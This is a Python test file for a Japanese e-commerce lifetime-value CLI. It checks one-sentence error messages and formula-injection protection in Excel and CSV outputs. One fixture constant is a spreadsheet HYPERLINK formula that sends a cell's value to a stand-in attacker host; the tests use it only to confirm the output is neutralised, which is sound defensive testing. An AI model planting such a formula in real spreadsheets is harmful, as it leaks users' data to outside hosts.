"""Issue 19: CLI error paths give one sentence and a non-zero exit; Excel outputs never run cell text."""

from __future__ import annotations

import json

import pytest
from fixtures import RAKUTEN_PAY_HEADER, rakuten_pay_row, write_csv

from ltvkit.cli import main

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    """A small workspace whose product name and code are a formula."""
    tmp = tmp_path_factory.mktemp("shop")
    rows = [rakuten_pay_row(f"o-{n}", 1, when=f"2024-0{1 + n % 6}-0{1 + n % 7} 10:00:00", sku=EVIL if n == 0 else None,
                            商品名=EVIL if n == 0 else "普通の商品", name=("山田", f"{n % 5}"))
            for n in range(30)]
    rows.append(rakuten_pay_row("o-bad", 1, qty="0x10"))
    path = write_csv(tmp / "r.csv", RAKUTEN_PAY_HEADER, rows, encoding="cp932")
    ws = tmp / "w.duckdb"
    assert main(["import", str(path), "-w", str(ws)]) == 0
    return ws


@pytest.fixture(autouse=True)
def _english_by_default(monkeypatch):
    """These tests read the English sentences unless they pass --lang ja (the default language is ja)."""
    monkeypatch.setenv("LTV_LANG", "en")


def _run(capsys, *args):
    rc = main([str(a) for a in args])
    out, err = capsys.readouterr()
    assert "Traceback" not in err and "Exception" not in err
    return rc, out, err


def _one_sentence(err):
    lines = [line for line in err.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith(("Error: ", "エラー: ")), err
    return lines[0]


# -- 9. damaged or foreign workspace files ------------------------------------------------------------------

@pytest.mark.parametrize("command", [["info"], ["summary"], ["quarantine"], ["import", "{csv}"]])
@pytest.mark.parametrize("size", [20_000, 300_000])
def test_a_truncated_workspace_is_one_sentence(shop, tmp_path, capsys, command, size):
    bad = tmp_path / "cut.duckdb"
    bad.write_bytes(shop.read_bytes()[:size])
    csv = write_csv(tmp_path / "x.csv", RAKUTEN_PAY_HEADER, [rakuten_pay_row("z", 1)], encoding="cp932")
    rc, _, err = _run(capsys, *[c.format(csv=csv) for c in command], "-w", bad)
    assert rc == 1 and "damaged" in _one_sentence(err)


def test_a_duckdb_file_that_is_not_a_workspace_is_refused_and_left_alone(tmp_path, capsys):
    import duckdb

    other = tmp_path / "other.duckdb"
    con = duckdb.connect(str(other))
    con.execute("CREATE TABLE sales (a INTEGER)")
    con.close()
    for command in (["info"], ["summary"]):
        rc, _, err = _run(capsys, *command, "-w", other)
        assert rc == 1 and "not an ltvkit workspace" in _one_sentence(err)
    con = duckdb.connect(str(other))
    assert [r[0] for r in con.execute("SHOW TABLES").fetchall()] == ["sales"]
    con.close()


def test_a_locked_workspace_is_a_sentence_without_duckdb_text(shop, capsys):
    import duckdb

    holder = duckdb.connect(str(shop))  # this process holds the write lock; the check runs in a child
    try:
        import subprocess
        import sys

        proc = subprocess.run([sys.executable, "-c", "import sys; from ltvkit.cli import main; "
                               f"sys.exit(main(['info', '-w', {str(shop)!r}]))"], capture_output=True, text=True)
    finally:
        holder.close()
    assert proc.returncode == 1
    line = _one_sentence(proc.stderr)
    assert "in use" in line and "PID" not in line and "lock" not in line.lower()


# -- 9. output paths ----------------------------------------------------------------------------------------

def test_out_paths_that_cannot_be_files(shop, tmp_path, capsys):
    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    cases = {tmp_path: "is a folder", a_file / "x.csv": "is a file, not a folder", "/proc/ltv/x.csv": "Cannot write"}
    for out, words in cases.items():
        rc, _, err = _run(capsys, "segments", "-w", shop, "--out", out)
        assert rc == 1 and words in _one_sentence(err)
    rc, _, err = _run(capsys, "report", "-w", shop, "--out", a_file / "r.html", "--lang", "en")
    assert rc == 1 and "is a file" in _one_sentence(err)
    rc, _, _ = _run(capsys, "segments", "-w", shop, "--out", tmp_path / "new" / "dir" / "s.csv")
    assert rc == 0 and (tmp_path / "new" / "dir" / "s.csv").exists()


def test_demo_out_an_existing_file(tmp_path, capsys):
    a_file = tmp_path / "a_file"
    a_file.write_text("x")
    rc, _, err = _run(capsys, "demo", "--out", a_file, "--lang", "en")
    assert rc == 1 and "is a file" in _one_sentence(err)
    rc, _, err = _run(capsys, "demo", "--out", a_file, "--lang", "ja")
    assert rc == 1 and "ファイルです" in _one_sentence(err)


# -- 9. options -----------------------------------------------------------------------------------------------

def test_negative_discount_rate_names_itself(shop, capsys):
    rc, _, err = _run(capsys, "summary", "-w", shop, "--discount-rate", "-1", "--lang", "en")
    assert rc == 1 and "--discount-rate" in _one_sentence(err)


def test_negative_within_days_is_an_error_not_a_warning(shop, capsys):
    rc, _, err = _run(capsys, "recommend", "-w", shop, "--due-soon", "--within-days", "-1", "--lang", "en")
    assert rc == 1 and "--within-days" in _one_sentence(err) and "Warning" not in err


def test_as_of_far_after_the_orders_says_why_the_kpis_are_empty(shop, capsys):
    rc, _, err = _run(capsys, "summary", "-w", shop, "--as-of", "9999-12-31", "--lang", "en")
    assert rc == 0 and "no order in the year before --as-of 9999-12-31" in err


def test_errors_come_in_the_users_language(tmp_path, capsys):
    bad = tmp_path / "cut.duckdb"
    bad.write_bytes(b"DUCK" * 5000)
    rc, _, err = _run(capsys, "summary", "-w", bad, "--lang", "ja")
    assert rc == 1 and "壊れている" in _one_sentence(err)


# -- 3. ltv quarantine ------------------------------------------------------------------------------------------

def test_quarantine_command_lists_rows_by_import(shop, capsys):
    rc, out, _ = _run(capsys, "quarantine", "-w", shop, "--json")
    rows = json.loads(out)
    assert rc == 0 and len(rows) == 1 and rows[0]["line_number"] == 32 and rows[0]["value"] == "0x10"
    assert rows[0]["path"].endswith("r.csv") and len(rows[0]["content_hash"]) == 64
    rc, out, _ = _run(capsys, "quarantine", "-w", shop, "--import", "999", "--csv")
    assert rc == 0 and out.splitlines()[0].startswith("import_id,")


# -- 5. formula injection ---------------------------------------------------------------------------------------

def test_xlsx_outputs_keep_formula_text_as_text(shop, tmp_path, capsys):
    import openpyxl

    out = tmp_path / "rows.xlsx"
    rc, _, _ = _run(capsys, "quarantine", "-w", shop, "--out", out)
    assert rc == 0
    out = tmp_path / "recs.xlsx"
    assert _run(capsys, "recommend", "-w", shop, "--k", "3", "--out", out)[0] == 0
    cells = [c for row in openpyxl.load_workbook(out).active.iter_rows() for c in row]
    evil = [c for c in cells if c.value == EVIL]
    assert evil and all(c.data_type == "s" for c in evil)
    assert not [c for c in cells if c.data_type == "f"]


def test_excel_safe_csv_prefixes_formula_cells(shop, tmp_path, capsys):
    import csv

    plain = tmp_path / "plain.csv"
    safe = tmp_path / "safe.csv"
    assert _run(capsys, "recommend", "-w", shop, "--k", "3", "--out", plain)[0] == 0
    assert _run(capsys, "--excel-safe", "recommend", "-w", shop, "--k", "3", "--out", safe)[0] == 0
    assert EVIL in [c for row in csv.reader(plain.open(encoding="utf-8")) for c in row]
    cells = [c for row in csv.reader(safe.open(encoding="utf-8")) for c in row]
    assert "'" + EVIL in cells and not [c for c in cells if c[:1] in ("=", "+", "@")]
    rc, out, _ = _run(capsys, "--excel-safe", "recommend", "-w", shop, "--k", "3", "--csv")
    assert rc == 0 and "'" + EVIL.replace('"', '""') in out


def test_library_warnings_with_source_paths_are_not_printed(shop, monkeypatch, capsys):
    import warnings

    from ltvkit import Workspace

    real = Workspace.info

    def noisy(self):
        warnings.warn_explicit("Mean of empty slice", RuntimeWarning, "/site-packages/numpy/_methods.py", 121)
        return real(self)

    monkeypatch.setattr(Workspace, "info", noisy)
    with warnings.catch_warnings(record=True) as shown:
        warnings.simplefilter("always")
        rc, _, err = _run(capsys, "info", "-w", shop)
    assert rc == 0 and not shown and "site-packages" not in err


def test_a_memory_setting_that_is_not_a_size_is_one_sentence_and_imports_nothing(tmp_path, capsys, monkeypatch):
    path = write_csv(tmp_path / "r.csv", RAKUTEN_PAY_HEADER, [rakuten_pay_row("o-1", 1)], encoding="cp932")
    ws = tmp_path / "w.duckdb"
    monkeypatch.setenv("LTV_IMPORT_MEMORY", "lots")
    rc, out, err = _run(capsys, "import", path, "-w", ws, "--lang", "ja")
    assert rc != 0 and "LTV_IMPORT_MEMORY='lots' はメモリの大きさではありません" in err
    monkeypatch.delenv("LTV_IMPORT_MEMORY")
    rc, out, err = _run(capsys, "info", "-w", ws, "--json")
    assert rc == 0 and json.loads(out)["orders"] == 0
